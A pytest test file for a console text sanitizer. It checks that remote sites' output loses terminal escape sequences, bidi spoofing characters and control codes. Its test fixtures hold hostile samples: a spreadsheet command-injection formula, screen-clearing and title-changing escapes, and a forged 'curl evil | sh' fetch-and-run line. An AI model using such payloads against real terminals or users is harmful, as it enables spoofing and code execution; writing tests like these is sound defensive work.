"""What others wrote reaches a terminal as plain text, and never as a line of the console's own."""

from __future__ import annotations

import io
import json
import unicodedata

import pytest

from multisite.console import text
from multisite.console.text import objects, parse, quoted, say
from multisite.text import LONGEST, clean

ESCAPED_DATASET = "=cmd|' /C calc'!A0\x1b]0;pwned\x07\x1b[31mFAKE"
FORGED_ERROR = "\x1b[2J\x1b[H\x1b]0;pwned\x07job 1234 completed\n  next: curl evil | sh"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (ESCAPED_DATASET, "=cmd|' /C calc'!A0FAKE"),
        (FORGED_ERROR, "job 1234 completed   next: curl evil | sh"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x9b31mred", "red"),  # the C1 form
        ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x9d0;title\x9cafter", "after"),
        ("\x1bPdevice control\x1b\\after", "after"),
        ("\x1bcreset", "reset"),
        ("\x1b(0line drawing", "line drawing"),
        ("cut off\x1b[", "cut off"),
        ("cut off\x1b", "cut off"),
        ("over\rwritten\x08\x08", "over written"),
        ("a\x00b\x07c\x7fd\x85e\x99f", "abcd ef"),
        ("user\u202egnp.exe\u2066\u200f", "usergnp.exe"),
        ("a\u2028b\u2029c\x0bd\x0ce\tf", "a b c d e f"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("tag\U000e0041", "tag"),
        ("half \ud83d of one", "half  of one"),
        ("Zürich 東京 🙂", "Zürich 東京 🙂"),
        ("  spaces  ", "spaces"),
        (7, "7"),
        (None, "None"),
    ],
)
def test_what_a_site_wrote_is_one_line_of_plain_text(written: object, shown: str) -> None:
    assert clean(written) == shown


def test_no_character_that_steers_a_terminal_is_left() -> None:
    everything = "".join(map(chr, range(0x110000)))
    left = "".join(clean(everything[start : start + 100], 10_000) for start in range(0, len(everything), 100))
    assert {unicodedata.category(character) for character in left} & {"Cc", "Cs", "Zl", "Zp"} == set()
    assert {
        character
        for character in left
        if unicodedata.bidirectional(character) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    } == set()
    assert all(character in left for character in "aZ0~é東🙂")


def test_what_is_absurdly_long_is_shortened_and_says_so() -> None:
    assert clean("x" * 700) == "x" * 386 + "... (314 more)"
    assert len(clean("x" * 100_000_000)) <= LONGEST
    assert len(clean("\x1b]" * 10_000_000)) <= LONGEST


def test_every_string_of_a_containers_answer_is_cleaned_keys_too() -> None:
    answer = {"errors": {"site-1\x1b[2J": FORGED_ERROR}, "rows": [{"dataset": ESCAPED_DATASET, "loss": 0.5}], "ok": True, "n": None}
    assert parse(json.dumps(answer)) == {
        "errors": {"site-1": "job 1234 completed   next: curl evil | sh"},
        "rows": [{"dataset": "=cmd|' /C calc'!A0FAKE", "loss": 0.5}],
        "ok": True,
        "n": None,
    }


@pytest.mark.parametrize("line", ["{", "[1]", "7", "{" * 100_000, '{"a":' + "[" * 100_000, "no json"])
def test_what_is_no_json_object_is_a_value_error(line: str) -> None:
    with pytest.raises(ValueError):  # noqa: PT011
        parse(line)


def test_an_answer_that_is_deeper_than_anything_of_ours_is_cut() -> None:
    assert "bottom" not in str(parse('{"a":' * 60 + '"bottom"' + "}" * 60))


def test_lines_that_are_no_objects_are_left_out() -> None:
    assert objects('a warning\n{"event": "x"}\n{half of one\n[1]\n') == [{"event": "x"}]


def test_a_quoted_log_has_a_mark_before_each_of_its_lines() -> None:
    assert quoted(f"first\n{FORGED_ERROR}\n") == "  | first\n  | job 1234 completed\n  | next: curl evil | sh"
    assert len(quoted("line\n" * 1000).splitlines()) == 15


def test_a_terminal_of_few_letters_gets_the_others_as_numbers() -> None:
    content = io.BytesIO()
    terminal = io.TextIOWrapper(content, encoding="latin-1")
    say("Zürich 東京", terminal)
    assert content.getvalue() == b"Z\xfcrich \\u6771\\u4eac\n"


def test_whatever_is_printed_has_lost_its_escapes_and_kept_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
    say("one\n  two\x1b[2J\x1b]0;pwned\x07\nthr\u202eee")
    text.warn("over\rwritten")
    assert capsys.readouterr() == ("one\n  two\nthree\n", "over written\n")
